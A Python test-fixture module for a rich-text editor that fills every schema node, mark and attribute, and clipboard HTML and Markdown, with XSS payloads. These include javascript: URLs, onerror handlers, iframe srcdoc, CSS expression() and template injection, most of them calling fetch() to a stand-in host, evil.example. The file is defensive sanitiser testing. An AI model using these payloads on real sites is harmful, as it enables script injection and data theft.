"""Content that tries to run: through every node, mark and attribute of the schema, and others that it doesn't have."""

import re
from collections.abc import Iterator, Mapping
from typing import Any
from uuid import UUID

from pycrdt import Doc, Text, XmlElement, XmlFragment, XmlText

from editor.content.schema import DESCRIPTION

EVIL = "https://evil.example"
RUN = f"window.harmed=1;fetch('{EVIL}/')"

ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" \x01java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"//evil.example/{'%0d%0a'}",
    f"https://www.youtube.com@evil.example/embed/x?{RUN}",
    "blob:https://evil.example/x",
)
MARKUP = (
    f"<script>{RUN}</script>",
    f'"><img src={EVIL}/x onerror="{RUN}">',
    f"'><svg onload={RUN}>",
    f'</textarea></title></style><iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'" autofocus onfocus="{RUN}" x="',
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"\\href{{javascript:{RUN}}}{{x}}\\includegraphics{{{EVIL}/x.png}}",
    f"red;background:url({EVIL}/x);width:expression({RUN})",
)
NAME = '"><img src=//evil.example/x onerror=window.harmed=1>'
"""For what has little room."""
PAYLOADS = (*ADDRESSES, *MARKUP)
ACTIVE_ATTRIBUTES = {
    "onclick": RUN,
    "onmouseover": RUN,
    "style": f"position:fixed;inset:0;background:url({EVIL}/x)",
    "srcdoc": MARKUP[0],
    "src": ADDRESSES[0],
    "href": ADDRESSES[0],
    "formaction": ADDRESSES[0],
    "innerHTML": MARKUP[1],
    "__proto__": MARKUP[1],
}
ACTIVE_NODES = ("script", "iframe", "img", "svg", "math", "object", "form", "style", "base", "meta", "template", "a")
TYPED_VALUES: tuple[Any, ...] = ({"toString": RUN, "href": ADDRESSES[0]}, [MARKUP[1]], True, -1e308)

_NODES: Mapping[str, Any] = DESCRIPTION["nodes"]
_MARKS: Mapping[str, Any] = DESCRIPTION["marks"]


def hostile_update(file: UUID) -> tuple[bytes, int]:
    """A whole document of it, and how many attempts it holds. `file` is one that the document uses."""
    doc: Doc[Any] = Doc()
    doc["title"], doc["default"] = Text(MARKUP[1]), XmlFragment()
    attempts = 1
    for name in _NODES:
        if name in {"doc", "text"}:
            continue
        for attributes in _attempts(name, file):
            _place(doc["default"], name, attributes)
            attempts += 1
    attempts += _write_marks(doc["default"])
    for name in ACTIVE_NODES:
        element = _append(doc["default"], name, ACTIVE_ATTRIBUTES)
        element.children.append(XmlText(RUN))
        attempts += len(ACTIVE_ATTRIBUTES)
    return doc.get_update(), attempts


def _attempts(name: str, file: UUID) -> Iterator[dict[str, Any]]:
    """One attribute after the other, with a real file where there is one; at last all that the schema doesn't have."""
    attributes = _NODES[name]["attributes"]
    usual = {"file": str(file)} if "file" in attributes else {}
    for attribute, description in attributes.items():
        for payload in _payloads(f"{name} {attribute}", description["type"]):
            yield {**usual, attribute: payload}
    yield {**usual, **ACTIVE_ATTRIBUTES}


def _payloads(place: str, kind: str) -> Iterator[Any]:
    """All of them where an address or any text may stand; elsewhere three, and something that is no text."""
    if kind in {"link", "embed", "string"} and not place.endswith("language"):
        yield from PAYLOADS
    else:
        start = sum(place.encode())
        yield from (PAYLOADS[(start + step) % len(PAYLOADS)] for step in (0, 5, 11))
    yield TYPED_VALUES[sum(place.encode()) % len(TYPED_VALUES)]


def _place(parent: Any, name: str, attributes: Mapping[str, Any]) -> None:
    """The node where it may stand, with what it must have around it and in it, so that it is shown."""
    if _NODES[name].get("group") == "inline":
        text = _line(parent)
        text.insert_embed(len(str(text)), {"type": name, "attrs": dict(attributes)})
        return
    if _NODES[name].get("group") != "block":
        outer = next(other for other in _NODES if re.search(rf"\b{name}\b", _NODES[other].get("content", "")))
        parent = _shell(parent, outer, name)
    _fill(_append(parent, name, attributes), name)


def _shell(parent: Any, outer: str, inner: str) -> Any:
    """An element that may hold `inner`, with the siblings that it must have before it."""
    if _NODES[outer].get("group") != "block" and outer != "doc":
        above = next(other for other in _NODES if re.search(rf"\b{outer}\b", _NODES[other].get("content", "")))
        parent = _shell(parent, above, outer)
    element = _append(parent, outer, {})
    for sibling in re.findall(r"\w+", _NODES[outer]["content"]):
        if sibling == inner:
            break
        if sibling.startswith("details"):
            _fill(_append(element, sibling, {}), sibling)
    return element


def _fill(element: Any, name: str) -> None:
    content = _NODES[name].get("content", "")
    if content.startswith(("inline", "text")):
        element.children.append(XmlText(MARKUP[0]))
    for part in re.findall(r"(\w+)[+]?(?=\s|$)", content):
        if part in {"block", "paragraph"}:
            _line(element)
        elif part in _NODES and part != "text":
            _fill(_append(element, part, {}), part)


def _append(parent: Any, name: str, attributes: Mapping[str, Any]) -> Any:
    element = parent.children.append(XmlElement(name))
    for attribute, value in attributes.items():
        element.attributes[attribute] = value
    return element


def _line(parent: Any) -> Any:
    return _append(parent, "paragraph", {}).children.append(XmlText(MARKUP[1]))


def _write_marks(root: Any) -> int:
    attempts = 0
    for name, mark in _MARKS.items():
        values = [
            {attribute: payload}
            for attribute, description in mark["attributes"].items()
            for payload in _payloads(f"{name} {attribute}", description["type"])
        ]
        for value in values or [{}]:
            text = _line(root)
            text.format(0, 5, {name: {**value, **ACTIVE_ATTRIBUTES}})
            attempts += 1
    return attempts


def hostile_html() -> str:
    """For the clipboard: what a page of an attacker's would put there."""
    nested = "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=RUN&gt;'>"
    parts = [
        *(
            f'<p><a href="{_quoted(address)}">link</a><img src="{_quoted(address)}" alt="x"></p>'
            for address in PAYLOADS
        ),
        *(f'<iframe src="{_quoted(address)}"></iframe><embed src="{_quoted(address)}">' for address in ADDRESSES),
        *MARKUP,
        *(f'<{name} {event}="{RUN}">x</{name}>' for name in ("p", "svg", "math") for event in ("onclick", "onload")),
        f'<form action="{ADDRESSES[0]}"><button formaction="{ADDRESSES[0]}">x</button></form>',
        f'<svg><a xlink:href="{ADDRESSES[0]}"><text>x</text></a><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
        nested.replace("RUN", RUN),
        f'<div data-pm-slice="0 0 []" data-file="{_quoted(PAYLOADS[9])}"><p style="{MARKUP[7]}">x</p></div>',
        f'<base href="{EVIL}/"><meta http-equiv="refresh" content="0;url={EVIL}/">',
        f'<link rel="stylesheet" href="{EVIL}/x">',
    ]
    return "".join(parts)


def hostile_markdown() -> str:
    lines = [
        *(f"[link]({address}) ![picture]({address}) <{address}>" for address in PAYLOADS),
        *(f"[^{number}]: {text}" for number, text in enumerate(MARKUP)),
        *(f"$${text}$$ and ${text}$ and `{text}`" for text in MARKUP),
        *(f"```{text.split()[0]}\n{text}\n```" for text in MARKUP),
        *MARKUP,
    ]
    return "\n\n".join(lines)


def _quoted(text: str) -> str:
    return text.replace("&", "&amp;").replace('"', "&quot;")
